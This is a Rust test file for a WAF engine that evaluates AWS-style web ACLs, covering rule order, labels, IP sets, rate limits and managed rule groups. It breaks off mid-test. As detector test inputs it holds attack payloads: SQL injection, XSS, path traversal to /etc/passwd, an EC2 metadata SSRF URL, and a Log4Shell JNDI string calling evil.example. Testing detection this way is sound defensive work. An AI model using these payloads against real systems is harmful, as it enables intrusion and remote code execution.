//! The engine against web ACLs written as users write them: AWS's JSON.

use std::net::IpAddr;

use rampart_shapes::{FromValue, HasShape};

use super::*;

fn shape<T: FromValue + HasShape>(json: &str) -> T {
    let value = rampart_wire::json::decode_input(json.as_bytes(), T::SHAPE).unwrap();
    T::from_value(value).unwrap()
}

const NS: &str = "awswaf:111122223333:webacl:front:";
const ID: &str = "a1b2c3d4-0000-4000-8000-000000000001";
const SET: &str = "arn:aws:wafv2:us-east-1:111122223333:regional/ipset/s/a1b2c3d4-0000-4000-8000-000000000002";
const GROUP: &str = "arn:aws:wafv2:us-east-1:111122223333:regional/rulegroup/g/a1b2c3d4-0000-4000-8000-000000000003";

fn acl(rules: &str, default: &str) -> shapes::WebACL {
    shape(&format!(
        r#"{{"Name":"front","Id":"{ID}","ARN":"arn:aws:wafv2:us-east-1:111122223333:regional/webacl/front/{ID}","DefaultAction":{default},"Rules":{rules},
            "VisibilityConfig":{{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"m"}},
            "LabelNamespace":"{NS}",
            "CustomResponseBodies":{{"denied":{{"ContentType":"APPLICATION_JSON","Content":"{{\"error\":\"denied\"}}"}}}}}}"#
    ))
}

fn vis(name: &str) -> String {
    format!(
        r#""VisibilityConfig":{{"SampledRequestsEnabled":true,"CloudWatchMetricsEnabled":true,"MetricName":"{name}"}}"#
    )
}

fn compiled(rules: &str) -> WebAcl {
    WebAcl::compile(&acl(rules, r#"{"Allow":{}}"#), &References::default()).unwrap()
}

struct Req {
    now: u64,
    ip: IpAddr,
    method: &'static str,
    path: &'static str,
    query: &'static str,
    headers: Vec<(&'static str, &'static str)>,
    body: Vec<u8>,
    tls: Option<hello::Fingerprints>,
    locate: Option<Box<dyn fields::Locate>>,
    token: Option<crate::tokens::Token>,
    /// Carries something that is no token of this server's.
    forged: bool,
    lists: Option<Box<dyn fields::Listed>>,
}

fn get(path: &'static str, query: &'static str) -> Req {
    Req {
        now: 1_700_000_000,
        ip: "203.0.113.9".parse().unwrap(),
        method: "GET",
        path,
        query,
        headers: vec![("Host", "example.com"), ("User-Agent", "curl/8.5")],
        body: Vec::new(),
        tls: None,
        locate: None,
        token: None,
        forged: false,
        lists: None,
    }
}

fn decide(acl: &WebAcl, r: &Req) -> Verdict {
    let headers: Vec<(&[u8], &[u8])> = r.headers.iter().map(|(k, v)| (k.as_bytes(), v.as_bytes())).collect();
    let request = Request {
        client_ip: r.ip,
        method: r.method.as_bytes(),
        path: r.path.as_bytes(),
        query: r.query.as_bytes(),
        headers: &headers,
        body: &r.body,
        body_length: r.body.len(),
        now: r.now,
        tls: r.tls.as_ref(),
        locate: r.locate.as_deref(),
        token: match (&r.token, r.forged) {
            (_, true) => crate::tokens::Presented::Invalid,
            (Some(t), false) => crate::tokens::Presented::Valid(t),
            (None, false) => crate::tokens::Presented::Absent,
        },
        ip_lists: r.lists.as_deref(),
    };
    acl.evaluate(&request)
}

fn blocked(v: &Verdict) -> bool {
    matches!(v.decision, Decision::Block(_))
}

fn byte_match(field: &str, needle: &str, constraint: &str, transforms: &str) -> String {
    let needle = data_encoding::BASE64.encode(needle.as_bytes());
    format!(
        r#"{{"ByteMatchStatement":{{"SearchString":"{needle}","FieldToMatch":{field},"TextTransformations":{transforms},"PositionalConstraint":"{constraint}"}}}}"#
    )
}

const DECODE_LOWER: &str = r#"[{"Priority":1,"Type":"LOWERCASE"},{"Priority":0,"Type":"URL_DECODE"}]"#;
const NONE: &str = r#"[{"Priority":0,"Type":"NONE"}]"#;

#[test]
fn rules_run_in_priority_order_and_count_goes_on() {
    let admin = byte_match(r#"{"UriPath":{}}"#, "/admin", "STARTS_WITH", DECODE_LOWER);
    let rules = format!(
        r#"[{{"Name":"block-labelled","Priority":20,"Statement":{{"LabelMatchStatement":{{"Scope":"LABEL","Key":"zone:admin"}}}},"Action":{{"Block":{{}}}},{v1}}},
            {{"Name":"tag-admin","Priority":10,"Statement":{admin},"Action":{{"Count":{{}}}},"RuleLabels":[{{"Name":"zone:admin"}}],{v2}}}]"#,
        v1 = vis("b"),
        v2 = vis("t")
    );
    let acl = compiled(&rules);
    // URL_DECODE runs before LOWERCASE (priority order), so an encoded, upper-case path matches.
    let v = decide(&acl, &get("/%41DMIN/users", ""));
    assert!(blocked(&v), "{v:?}");
    assert_eq!(v.terminating_rule, "block-labelled");
    assert_eq!(v.counted, ["tag-admin"]);
    assert_eq!(v.labels, [format!("{NS}zone:admin")]);
    // The counting rule's metric samples the request too (the blocking one's is the terminating).
    assert_eq!(v.counted_metrics, [("t".to_owned(), true)]);
    let v = decide(&acl, &get("/home", ""));
    assert_eq!(v.decision, Decision::Allow { insert_headers: vec![] });
    assert_eq!(v.terminating_rule, "Default_Action");
}

#[test]
fn a_label_is_only_seen_by_the_rules_after_it() {
    let admin = byte_match(r#"{"UriPath":{}}"#, "/admin", "STARTS_WITH", NONE);
    let rules = format!(
        r#"[{{"Name":"early","Priority":1,"Statement":{{"LabelMatchStatement":{{"Scope":"NAMESPACE","Key":"zone:"}}}},"Action":{{"Block":{{}}}},{v1}}},
            {{"Name":"tag","Priority":5,"Statement":{admin},"Action":{{"Count":{{}}}},"RuleLabels":[{{"Name":"zone:admin"}}],{v2}}}]"#,
        v1 = vis("e"),
        v2 = vis("t")
    );
    let v = decide(&compiled(&rules), &get("/admin", ""));
    assert!(!blocked(&v), "the label came after the rule that looked for it");
    assert_eq!(v.labels.len(), 1);
}

#[test]
fn custom_responses_and_inserted_headers() {
    let rules = format!(
        r#"[{{"Name":"deny","Priority":1,"Statement":{s1},"Action":{{"Block":{{"CustomResponse":{{"ResponseCode":429,"CustomResponseBodyKey":"denied","ResponseHeaders":[{{"Name":"reason","Value":"no"}}]}}}}}},{v1}}},
            {{"Name":"mark","Priority":2,"Statement":{s2},"Action":{{"Count":{{"CustomRequestHandling":{{"InsertHeaders":[{{"Name":"seen","Value":"yes"}}]}}}}}},{v2}}}]"#,
        s1 = byte_match(r#"{"Method":{}}"#, "DELETE", "EXACTLY", NONE),
        s2 = byte_match(r#"{"SingleHeader":{"Name":"user-agent"}}"#, "curl", "STARTS_WITH", NONE),
        v1 = vis("d"),
        v2 = vis("m")
    );
    let acl = compiled(&rules);
    let mut delete = get("/x", "");
    delete.method = "DELETE";
    let Decision::Block(r) = decide(&acl, &delete).decision else { panic!("DELETE is blocked") };
    assert_eq!(r.status, 429);
    assert_eq!(r.headers, [("x-amzn-waf-reason".to_owned(), "no".to_owned())]);
    assert_eq!(r.content_type.as_deref(), Some("application/json"));
    assert_eq!(r.body, br#"{"error":"denied"}"#);
    let v = decide(&acl, &get("/x", ""));
    assert_eq!(v.decision, Decision::Allow { insert_headers: vec![("x-amzn-waf-seen".into(), "yes".into())] });
}

#[test]
fn ip_sets_match_the_client_or_a_forwarded_address() {
    let mut refs = References::default();
    refs.ip_sets.insert(
        SET.into(),
        shape(&format!(
            r#"{{"Name":"s","Id":"{ID}","ARN":"{SET}","IPAddressVersion":"IPV4","Addresses":["198.51.100.0/24"]}}"#
        )),
    );
    let rule = |forwarded: &str| {
        format!(
            r#"[{{"Name":"ips","Priority":1,"Statement":{{"IPSetReferenceStatement":{{"ARN":"{SET}"{forwarded}}}}},"Action":{{"Block":{{}}}},{v}}}]"#,
            v = vis("i")
        )
    };
    let direct = WebAcl::compile(&acl(&rule(""), r#"{"Allow":{}}"#), &refs).unwrap();
    let mut r = get("/", "");
    assert!(!blocked(&decide(&direct, &r)));
    r.ip = "198.51.100.20".parse().unwrap();
    assert!(blocked(&decide(&direct, &r)));
    let forwarded = rule(
        r#","IPSetForwardedIPConfig":{"HeaderName":"X-Forwarded-For","FallbackBehavior":"MATCH","Position":"FIRST"}"#,
    );
    let via = WebAcl::compile(&acl(&forwarded, r#"{"Allow":{}}"#), &refs).unwrap();
    let mut r = get("/", "");
    r.headers.push(("X-Forwarded-For", "198.51.100.7, 10.0.0.1"));
    assert!(blocked(&decide(&via, &r)));
    let mut r = get("/", "");
    r.headers.push(("X-Forwarded-For", "192.0.2.1, 198.51.100.7"));
    assert!(!blocked(&decide(&via, &r)), "FIRST looks at the first address only");
    assert!(blocked(&decide(&via, &get("/", ""))), "no header: the fallback matches");
}

#[test]
fn sql_injection_and_xss_are_detected_where_benign_input_passes() {
    let rules = format!(
        r#"[{{"Name":"sqli","Priority":1,"Statement":{{"SqliMatchStatement":{{"FieldToMatch":{{"AllQueryArguments":{{}}}},"TextTransformations":[{{"Priority":0,"Type":"URL_DECODE"}}]}}}},"Action":{{"Block":{{}}}},{v1}}},
            {{"Name":"xss","Priority":2,"Statement":{{"XssMatchStatement":{{"FieldToMatch":{{"Body":{{"OversizeHandling":"CONTINUE"}}}},"TextTransformations":[{{"Priority":0,"Type":"HTML_ENTITY_DECODE"}}]}}}},"Action":{{"Block":{{}}}},{v2}}}]"#,
        v1 = vis("s"),
        v2 = vis("x")
    );
    let acl = compiled(&rules);
    assert!(blocked(&decide(&acl, &get("/item", "id=1%27%20OR%20%271%27%3D%271"))));
    assert!(blocked(&decide(&acl, &get("/item", "q=1%20UNION%20SELECT%20password%20FROM%20users--"))));
    assert!(!blocked(&decide(&acl, &get("/item", "id=42&sort=name"))));
    assert!(!blocked(&decide(&acl, &get("/search", "q=O%27Reilly%20books"))));
    let mut post = get("/comment", "");
    post.method = "POST";
    post.body = b"text=&lt;script&gt;alert(1)&lt;/script&gt;".to_vec();
    assert!(blocked(&decide(&acl, &post)));
    post.body = b"text=I think 3 < 4 and 5 > 2".to_vec();
    assert!(!blocked(&decide(&acl, &post)));
}

#[test]
fn oversized_bodies_follow_their_handling() {
    let rule = |handling: &str| {
        format!(
            r#"[{{"Name":"big","Priority":1,"Statement":{s},"Action":{{"Block":{{}}}},{v}}}]"#,
            s = byte_match(&format!(r#"{{"Body":{{"OversizeHandling":"{handling}"}}}}"#), "secret", "CONTAINS", NONE),
            v = vis("b")
        )
    };
    let mut r = get("/", "");
    r.body = vec![b'a'; fields::BODY_LIMIT + 10];
    r.body.extend_from_slice(b"secret");
    assert!(!blocked(&decide(&compiled(&rule("CONTINUE")), &r)), "the needle lies past the inspected 8 KB");
    assert!(blocked(&decide(&compiled(&rule("MATCH")), &r)));
    assert!(!blocked(&decide(&compiled(&rule("NO_MATCH")), &r)));
}

#[test]
fn contains_word_needs_word_boundaries() {
    let rules = format!(
        r#"[{{"Name":"w","Priority":1,"Statement":{s},"Action":{{"Block":{{}}}},{v}}}]"#,
        s = byte_match(r#"{"QueryString":{}}"#, "drop", "CONTAINS_WORD", NONE),
        v = vis("w")
    );
    let acl = compiled(&rules);
    assert!(blocked(&decide(&acl, &get("/", "a=drop;"))));
    assert!(blocked(&decide(&acl, &get("/", "drop"))));
    assert!(!blocked(&decide(&acl, &get("/", "a=dropbox"))));
    assert!(!blocked(&decide(&acl, &get("/", "a=airdrop"))));
}

#[test]
fn json_bodies_are_inspected_by_key_and_value() {
    let rule = |scope: &str, paths: &str| {
        format!(
            r#"[{{"Name":"j","Priority":1,"Statement":{s},"Action":{{"Block":{{}}}},{v}}}]"#,
            s = byte_match(
                &format!(
                    r#"{{"JsonBody":{{"MatchPattern":{paths},"MatchScope":"{scope}","InvalidFallbackBehavior":"EVALUATE_AS_STRING"}}}}"#
                ),
                "admin",
                "EXACTLY",
                NONE
            ),
            v = vis("j")
        )
    };
    let mut r = get("/", "");
    r.body = br#"{"user":{"role":"admin"},"note":"x"}"#.to_vec();
    assert!(blocked(&decide(&compiled(&rule("VALUE", r#"{"All":{}}"#)), &r)));
    assert!(!blocked(&decide(&compiled(&rule("KEY", r#"{"All":{}}"#)), &r)));
    assert!(blocked(&decide(&compiled(&rule("ALL", r#"{"IncludedPaths":["/user/role"]}"#)), &r)));
    assert!(!blocked(&decide(&compiled(&rule("ALL", r#"{"IncludedPaths":["/note"]}"#)), &r)));
    r.body = b"admin".to_vec();
    assert!(blocked(&decide(&compiled(&rule("ALL", r#"{"All":{}}"#)), &r)), "not JSON: evaluated as a string");
}

#[test]
fn rule_groups_run_in_place_with_their_overrides() {
    let mut refs = References::default();
    let group_rules = format!(
        r#"[{{"Name":"bot","Priority":1,"Statement":{s},"Action":{{"Block":{{}}}},"RuleLabels":[{{"Name":"bot"}}],{v}}},
            {{"Name":"probe","Priority":2,"Statement":{p},"Action":{{"Block":{{}}}},{v2}}}]"#,
        s = byte_match(r#"{"SingleHeader":{"Name":"user-agent"}}"#, "sqlmap", "CONTAINS", DECODE_LOWER),
        p = byte_match(r#"{"UriPath":{}}"#, "/.env", "EXACTLY", NONE),
        v = vis("bot"),
        v2 = vis("probe")
    );
    refs.rule_groups.insert(
        GROUP.into(),
        shape(&format!(
            r#"{{"Name":"g","Id":"{ID}","ARN":"{GROUP}","Capacity":100,"Rules":{group_rules},{v},"LabelNamespace":"awswaf:111122223333:rulegroup:g:"}}"#,
            v = vis("g")
        )),
    );
    let with = |override_action: &str, overrides: &str| {
        let rules = format!(
            r#"[{{"Name":"group","Priority":5,"Statement":{{"RuleGroupReferenceStatement":{{"ARN":"{GROUP}"{overrides}}}}},"OverrideAction":{override_action},{v}}},
                {{"Name":"after","Priority":9,"Statement":{{"LabelMatchStatement":{{"Scope":"LABEL","Key":"awswaf:111122223333:rulegroup:g:bot"}}}},"Action":{{"Block":{{"CustomResponse":{{"ResponseCode":418}}}}}},{v2}}}]"#,
            v = vis("group"),
            v2 = vis("after")
        );
        WebAcl::compile(&acl(&rules, r#"{"Allow":{}}"#), &refs).unwrap()
    };
    let mut bot = get("/", "");
    bot.headers.push(("User-Agent", "SQLMap/1.7"));
    bot.headers.remove(1);
    let v = decide(&with(r#"{"None":{}}"#, ""), &bot);
    assert_eq!(v.terminating_rule, "bot", "the group's rule ends it, named as itself");
    assert_eq!(v.labels, ["awswaf:111122223333:rulegroup:g:bot"]);
    // Counting the group: its label still reaches the web ACL's later rule.
    let v = decide(&with(r#"{"Count":{}}"#, ""), &bot);
    assert_eq!(v.terminating_rule, "after");
    assert!(matches!(v.decision, Decision::Block(Response { status: 418, .. })));
    // Overriding one rule's action to Count.
    let one = r#","RuleActionOverrides":[{"Name":"bot","ActionToUse":{"Count":{}}}]"#;
    let v = decide(&with(r#"{"None":{}}"#, one), &bot);
    assert_eq!((v.terminating_rule.as_str(), v.counted.as_slice()), ("after", &["bot".to_owned()][..]));
    assert!(blocked(&decide(&with(r#"{"None":{}}"#, one), &get("/.env", ""))), "other rules keep their action");
}

#[test]
fn what_the_engine_cannot_evaluate_is_refused_whole() {
    let rules = format!(
        r#"[{{"Name":"rate","Priority":1,"Statement":{{"RateBasedStatement":{{"Limit":100,"AggregateKeyType":"IP","EvaluationWindowSec":90}}}},"Action":{{"Block":{{}}}},{v}}}]"#,
        v = vis("r")
    );
    assert!(WebAcl::compile(&acl(&rules, r#"{"Allow":{}}"#), &References::default()).is_err(), "no such window");
    let missing = format!(
        r#"[{{"Name":"ips","Priority":1,"Statement":{{"IPSetReferenceStatement":{{"ARN":"{SET}"}}}},"Action":{{"Block":{{}}}},{v}}}]"#,
        v = vis("i")
    );
    assert!(WebAcl::compile(&acl(&missing, r#"{"Allow":{}}"#), &References::default()).is_err());
}

#[test]
fn labels_match_by_name_or_namespace_in_their_context() {
    let ctx = "awswaf:1:webacl:a:";
    assert!(label_matches("awswaf:1:webacl:a:zone:admin", "zone:admin", false, ctx));
    assert!(label_matches("awswaf:1:webacl:a:zone:admin", "admin", false, ctx));
    assert!(!label_matches("awswaf:1:webacl:a:zone:admins", "admin", false, ctx));
    assert!(!label_matches("awswaf:1:rulegroup:g:zone:admin", "zone:admin", false, ctx), "another context");
    assert!(label_matches("awswaf:1:rulegroup:g:zone:admin", "awswaf:1:rulegroup:g:zone:admin", false, ctx));
    assert!(label_matches("awswaf:1:webacl:a:zone:admin", "zone:", true, ctx));
    assert!(!label_matches("awswaf:1:webacl:a:zone:admin", "admin:", true, ctx), "a name is not a namespace");
    assert!(label_matches(
        "awswaf:managed:aws:bot-control:bot:category:ai",
        "awswaf:managed:aws:bot-control:bot:",
        true,
        ctx
    ));
}

proptest::proptest! {
    /// The detectors never flag a bare word, so skipping them for one changes no decision.
    #[test]
    fn a_bare_word_is_never_an_injection(word in "[A-Za-z0-9_.]{0,40}") {
        proptest::prop_assert!(plain(word.as_bytes()));
        proptest::prop_assert!(!libinjectionrs::detect_sqli(word.as_bytes()).is_injection(), "{}", word);
        proptest::prop_assert!(!libinjectionrs::detect_xss(word.as_bytes()).is_injection(), "{}", word);
    }
}

#[test]
fn bare_sql_and_script_words_are_not_injections_either() {
    for word in [
        "select",
        "union",
        "sleep",
        "or",
        "1",
        "javascript",
        "script",
        "onerror",
        "alert",
        "--",
        "1e5",
        "0x41",
        "a.b_c",
        "1.2.3",
    ] {
        assert!(!libinjectionrs::detect_sqli(word.as_bytes()).is_injection(), "{word}");
        assert!(!libinjectionrs::detect_xss(word.as_bytes()).is_injection(), "{word}");
    }
}

#[test]
fn ip_ranges_merge_and_find_their_addresses() {
    let nets = ["10.0.0.0/24", "10.0.1.0/24", "192.0.2.7/32", "2001:db8::/32", "10.0.0.128/25"];
    let ranges = Ranges::of(nets.iter().map(|n| n.parse().unwrap()));
    assert_eq!(ranges.0.len(), 3, "adjacent and nested blocks merge");
    for (ip, inside) in [
        ("10.0.0.0", true),
        ("10.0.1.255", true),
        ("10.0.2.0", false),
        ("192.0.2.7", true),
        ("192.0.2.8", false),
        ("9.255.255.255", false),
        ("2001:db8:ffff::1", true),
        ("2001:db9::", false),
        ("::ffff:10.0.0.1", true),
    ] {
        assert_eq!(ranges.contains(ip.parse().unwrap()), inside, "{ip}");
    }
    assert!(!Ranges::default().contains("10.0.0.1".parse().unwrap()));
}

fn managed(name: &str, priority: u32, extra: &str) -> String {
    format!(
        r#"{{"Name":"{name}","Priority":{priority},"Statement":{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{name}"{extra}}}}},"OverrideAction":{{"None":{{}}}},{v}}}"#,
        v = vis(name)
    )
}

fn browser(path: &'static str, query: &'static str) -> Req {
    let mut r = get(path, query);
    r.headers = vec![
        ("Host", "shop.example.com"),
        ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"),
        ("Accept", "text/html,application/xhtml+xml"),
        ("Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"),
    ];
    r
}

#[test]
fn aws_managed_groups_block_with_awss_rule_names_and_labels() {
    let rules = format!(
        "[{},{},{}]",
        managed(
            "AWSManagedRulesCommonRuleSet",
            1,
            r#","RuleActionOverrides":[{"Name":"SizeRestrictions_BODY","ActionToUse":{"Count":{}}}]"#
        ),
        managed("AWSManagedRulesSQLiRuleSet", 2, ""),
        managed("AWSManagedRulesKnownBadInputsRuleSet", 3, "")
    );
    let acl = compiled(&rules);
    let benign = [
        browser("/", ""),
        browser("/products/42", "color=blue&size=m"),
        browser("/search", "q=O%27Reilly+books+%26+more"),
        browser("/blog/2024/12/what-is-new", "utm_source=news&ref=home"),
        browser("/api/orders", "since=2024-01-01T00:00:00Z&limit=50"),
    ];
    for r in &benign {
        let v = decide(&acl, r);
        assert_eq!(v.terminating_rule, "Default_Action", "{} {}: {v:?}", r.path, r.query);
    }
    let core = "awswaf:managed:aws:core-rule-set:";
    let cases: [(Req, &str, String); 7] = [
        (no_agent(browser("/", "")), "NoUserAgent_HEADER", format!("{core}NoUserAgent_Header")),
        (
            browser("/download", "file=..%2F..%2F..%2Fetc%2Fpasswd"),
            "GenericLFI_QUERYARGUMENTS",
            format!("{core}GenericLFI_QueryArguments"),
        ),
        (
            browser("/download", "file=%25c0%25ae%25c0%25ae/%25c0%25ae%25c0%25ae/app.cfg"),
            "GenericLFI_QUERYARGUMENTS",
            format!("{core}GenericLFI_QueryArguments"),
        ),
        (
            browser("/fetch", "url=http://169.254.169.254/latest/meta-data/"),
            "EC2MetaDataSSRF_QUERYARGUMENTS",
            format!("{core}EC2MetaDataSSRF_QueryArguments"),
        ),
        (
            browser("/comment", "text=%3Cscript%3Ealert(1)%3C/script%3E"),
            "CrossSiteScripting_QUERYARGUMENTS",
            format!("{core}CrossSiteScripting_QueryArguments"),
        ),
        (
            browser("/item", "id=1%27%20OR%20%271%27%3D%271"),
            "SQLi_QUERYARGUMENTS",
            "awswaf:managed:aws:sql-database:SQLi_QueryArguments".to_owned(),
        ),
        (
            with_header(browser("/", ""), "X-Api-Version", "${jndi:ldap://evil.example/a}"),
            "Log4JRCE_HEADER",
            "awswaf:managed:aws:known-bad-inputs:Log4JRCE_Header".to_owned(),
        ),
    ];
    for (r, rule, label) in &cases {
        let v = decide(&acl, r);
        assert!(blocked(&v), "{rule}: {v:?}");
        assert_eq!(&v.terminating_rule, rule);
        assert!(v.labels.contains(label), "{rule}: {:?}", v.labels);
    }
    // The override turns one rule into a count: a large body passes, counted and labelled.
    let mut big = browser("/upload", "");
    big.method = "POST";
    big.body = vec![b'a'; 10_000];
    let v = decide(&acl, &big);
    assert_eq!(v.terminating_rule, "Default_Action", "{v:?}");
    assert_eq!(v.counted, ["SizeRestrictions_BODY"]);
}

#[test]
fn a_scope_down_statement_limits_what_a_managed_group_sees() {
    let scope = format!(r#","ScopeDownStatement":{}"#, byte_match(r#"{"UriPath":{}}"#, "/api/", "STARTS_WITH", NONE));
    let acl = compiled(&format!("[{}]", managed("AWSManagedRulesSQLiRuleSet", 1, &scope)));
    assert!(blocked(&decide(&acl, &browser("/api/items", "id=1%27%20OR%20%271%27%3D%271"))));
    assert!(!blocked(&decide(&acl, &browser("/web/items", "id=1%27%20OR%20%271%27%3D%271"))), "out of scope");
}

#[test]
fn every_shipped_group_builds_and_costs_awss_published_wcus() {
    for (name, wcus) in [
        ("AWSManagedRulesCommonRuleSet", 700),
        ("AWSManagedRulesSQLiRuleSet", 200),
        ("AWSManagedRulesKnownBadInputsRuleSet", 200),
        ("AWSManagedRulesAdminProtectionRuleSet", 100),
        ("AWSManagedRulesAmazonIpReputationList", 25),
        ("AWSManagedRulesAnonymousIpList", 50),
        ("AWSManagedRulesBotControlRuleSet", 50),
    ] {
        let group = crate::managed::managed_rule_group("AWS", name).unwrap_or_else(|| panic!("{name} builds"));
        assert!(!group.rules.as_deref().unwrap().is_empty());
        assert_eq!(group.capacity, wcus, "{name}");
        let statement: shapes::Statement =
            shape(&format!(r#"{{"ManagedRuleGroupStatement":{{"VendorName":"AWS","Name":"{name}"}}}}"#));
        assert_eq!(crate::capacity::statement(&statement, &|_| None), wcus, "{name}");
        assert!(compiled(&format!("[{}]", managed(name, 1, ""))).label_namespace().starts_with("awswaf:"));
    }
}

fn with_header(mut r: Req, name: &'static str, value: &'static str) -> Req {
    r.headers.push((name, value));
    r
}

fn no_agent(mut r: Req) -> Req {
    r.headers.retain(|(k, _)| !k.eq_ignore_ascii_case("user-agent"));
    r
}

fn rate_rule(statement: &str) -> WebAcl {
    compiled(&format!(
        r#"[{{"Name":"flood","Priority":1,"Statement":{{"RateBasedStatement":{statement}}},"Action":{{"Block":{{}}}},{v}}}]"#,
        v = vis("flood")
    ))
}

#[test]
fn a_rate_rule_blocks_an_instance_over_its_limit_until_the_window_passes() {
    let acl = rate_rule(r#"{"Limit":10,"EvaluationWindowSec":60,"AggregateKeyType":"IP"}"#);
    let mut r = get("/", "");
    let start = r.now;
    for i in 0..10 {
        r.now = start + i;
        assert!(!blocked(&decide(&acl, &r)), "request {i} is within the limit");
    }
    r.now = start + 10;
    assert!(blocked(&decide(&acl, &r)), "the eleventh in the window is over it");
    // Another client is its own instance.
    let mut other = get("/", "");
    other.ip = "198.51.100.1".parse().unwrap();
    other.now = start + 10;
    assert!(!blocked(&decide(&acl, &other)));
    // A window later the first client's old requests no longer count.
    r.now = start + 10 + 70;
    assert!(!blocked(&decide(&acl, &r)));
}

#[test]
fn nodes_sharing_their_counts_hold_an_instance_over_the_limit_on_their_total() {
    // The same web ACL compiled on two nodes; a client sends six requests to each.
    let statement = r#"{"Limit":10,"EvaluationWindowSec":60,"AggregateKeyType":"IP"}"#;
    let (a, b) = (rate_rule(statement), rate_rule(statement));
    let mut r = get("/", "");
    let start = r.now;
    for i in 0..6 {
        r.now = start + i;
        assert!(!blocked(&decide(&a, &r)));
        assert!(!blocked(&decide(&b, &r)));
    }
    // Each node alone is under the limit; with what the other shared, the client is over it.
    let (rule_a, rule_b) = (a.rate_rules()[0], b.rate_rules()[0]);
    assert!(rule_a.take_counted() && !rule_a.take_counted(), "counting is noticed once");
    let shared = rule_a.snapshot(r.now, 1000);
    assert_eq!(shared.len(), 1);
    assert_eq!(shared[0].1.iter().map(|(_, n)| n).sum::<u32>(), 6);
    rule_b.set_remote(shared.into_iter().collect());
    r.now = start + 7;
    assert!(blocked(&decide(&b, &r)), "6 + 6 is over 10");
    // Another client is not held for it.
    let mut other = get("/", "");
    other.ip = "198.51.100.7".parse().unwrap();
    other.now = start + 7;
    assert!(!blocked(&decide(&b, &other)));
    // The other node's requests leave the window as the node's own do.
    r.now = start + 75;
    assert!(!blocked(&decide(&b, &r)));
    assert!(a.rate_rules()[0].snapshot(start + 75, 1000).is_empty(), "nothing left in the window");
}

#[test]
fn a_node_shares_its_busiest_instances() {
    let acl = rate_rule(r#"{"Limit":1000,"EvaluationWindowSec":300,"AggregateKeyType":"IP"}"#);
    let mut r = get("/", "");
    for (ip, n) in [("192.0.2.1", 3), ("192.0.2.2", 5), ("192.0.2.3", 1)] {
        r.ip = ip.parse().unwrap();
        for _ in 0..n {
            decide(&acl, &r);
        }
    }
    let shared = acl.rate_rules()[0].snapshot(r.now, 2);
    let totals: Vec<u32> = shared.iter().map(|(_, b)| b.iter().map(|(_, n)| n).sum()).collect();
    assert_eq!(totals, [5, 3]);
    assert!(shared[0].0.ends_with(&[192, 0, 2, 2]), "the busiest first");
}

#[test]
fn rate_rules_aggregate_by_custom_keys_and_count_only_their_scope() {
    let scope = byte_match(r#"{"UriPath":{}}"#, "/login", "STARTS_WITH", NONE);
    let acl = rate_rule(&format!(
        r#"{{"Limit":10,"EvaluationWindowSec":120,"AggregateKeyType":"CUSTOM_KEYS","ScopeDownStatement":{scope},
            "CustomKeys":[{{"Header":{{"Name":"x-api-key","TextTransformations":[{{"Priority":0,"Type":"LOWERCASE"}}]}}}},{{"HTTPMethod":{{}}}}]}}"#
    ));
    let mut login = get("/login", "");
    login.method = "POST";
    login.headers.push(("X-Api-Key", "ABC"));
    for _ in 0..10 {
        assert!(!blocked(&decide(&acl, &login)));
    }
    assert!(blocked(&decide(&acl, &login)));
    // The key is transformed: "abc" is the same instance; GET is another, and so is another key.
    let mut lower = get("/login", "");
    lower.method = "POST";
    lower.headers.push(("X-Api-Key", "abc"));
    assert!(blocked(&decide(&acl, &lower)));
    let mut get_login = get("/login", "");
    get_login.headers.push(("X-Api-Key", "ABC"));
    assert!(!blocked(&decide(&acl, &get_login)));
    // Out of scope, or without a key, nothing is counted.
    let mut home = get("/home", "");
    home.method = "POST";
    home.headers.push(("X-Api-Key", "ABC"));
    assert!(!blocked(&decide(&acl, &home)));
    let mut keyless = get("/login", "");
    keyless.method = "POST";
    for _ in 0..20 {
        assert!(!blocked(&decide(&acl, &keyless)));
    }
}

#[test]
fn forwarded_ip_rate_rules_fall_back_as_configured() {
    let acl = rate_rule(
        r#"{"Limit":10,"AggregateKeyType":"FORWARDED_IP","ForwardedIPConfig":{"HeaderName":"X-Forwarded-For","FallbackBehavior":"MATCH"}}"#,
    );
    let mut r = get("/", "");
    r.headers.push(("X-Forwarded-For", "192.0.2.5, 10.0.0.1"));
    for _ in 0..10 {
        assert!(!blocked(&decide(&acl, &r)));
    }
    assert!(blocked(&decide(&acl, &r)));
    assert!(blocked(&decide(&acl, &get("/", ""))), "no header: the fallback matches");
}

#[test]
fn the_terminating_rule_is_named_as_waf_logs_name_it() {
    let rules = format!(
        "[{},{}]",
        managed("AWSManagedRulesCommonRuleSet", 1, ""),
        r#"{"Name":"flood","Priority":2,"Action":{"Block":{}},"Statement":{"RateBasedStatement":{"Limit":100,"AggregateKeyType":"IP"}},"VisibilityConfig":{"SampledRequestsEnabled":false,"CloudWatchMetricsEnabled":true,"MetricName":"flood-metric"}}"#
    );
    let acl = compiled(&rules);
    let v = decide(&acl, &no_agent(browser("/", "")));
    let t = &v.terminating;
    assert_eq!(
        (t.rule_id.as_str(), t.rule_type, t.action),
        ("AWSManagedRulesCommonRuleSet", "MANAGED_RULE_GROUP", "BLOCK")
    );
    assert_eq!(t.group, Some(("AWS#AWSManagedRulesCommonRuleSet".to_owned(), "NoUserAgent_HEADER".to_owned())));
    assert_eq!((t.metric.as_str(), t.sampled), ("AWSManagedRulesCommonRuleSet", true));
    let v = decide(&acl, &browser("/", ""));
    let t = &v.terminating;
    assert_eq!(
        (t.rule_id.as_str(), t.rule_type, t.action, t.metric.as_str()),
        ("Default_Action", "DEFAULT", "ALLOW", "m")
    );
    let mut flood = None;
    for _ in 0..150 {
        flood = Some(decide(&acl, &browser("/", "")));
    }
    let t = flood.unwrap().terminating;
    assert_eq!(
        (t.rule_id.as_str(), t.rule_type, t.metric.as_str(), t.sampled),
        ("flood", "RATE_BASED", "flood-metric", false)
    );
}

#[test]
fn the_use_case_groups_block_with_awss_rule_names_and_labels() {
    let rules = format!(
        "[{},{},{},{}]",
        managed("AWSManagedRulesLinuxRuleSet", 1, ""),
        managed("AWSManagedRulesUnixRuleSet", 2, ""),
        managed("AWSManagedRulesPHPRuleSet", 3, ""),
        managed("AWSManagedRulesWordPressRuleSet", 4, "")
    );
    let acl = compiled(&rules);
    for r in [
        browser("/", ""),
        browser("/search", "q=cat+videos+%26+more"),
        browser("/docs/linux/proc-filesystem", "section=intro"),
